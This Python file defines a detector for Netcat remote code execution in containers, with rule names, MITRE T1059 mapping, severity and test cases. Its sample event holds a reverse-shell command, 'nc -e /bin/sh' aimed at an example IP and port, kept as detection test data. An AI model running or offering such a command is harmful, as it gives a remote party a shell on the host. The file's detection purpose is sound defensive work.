"""Netcat was told to run a program for whoever is at the other end."""

from signals.connections import peer
from signals.detector import Detector, record, renamed
from signals.threats import Severity

SEEN = record(
    "Netcat Remote Code Execution in Container",
    {
        "proc.name": "nc",
        "proc.cmdline": "nc -e /bin/sh 203.0.113.66 4444",
        "k8s.ns.name": "shop",
        "k8s.pod.name": "web-0",
    },
)

DETECTOR = Detector(
    name="netcat_execution",
    rules=(
        "Netcat Remote Code Execution in Container",
        "Netcat Remote Code Execution",
    ),
    technique="T1059",
    severity=Severity.CRITICAL,
    confidence=0.85,
    because="Netcat with -e or -c exists to hand a shell to the network. A person may do it in a test.",
    title="{process} in {where} runs a program for whoever is at the other end of its connection",
    sufficient_alone=True,
    peer=peer,
    fires_on=(
        SEEN,
        renamed(SEEN, "Netcat Remote Code Execution"),
    ),
    ignores=(renamed(SEEN, "Launch Suspicious Network Tool in Container"),),
)
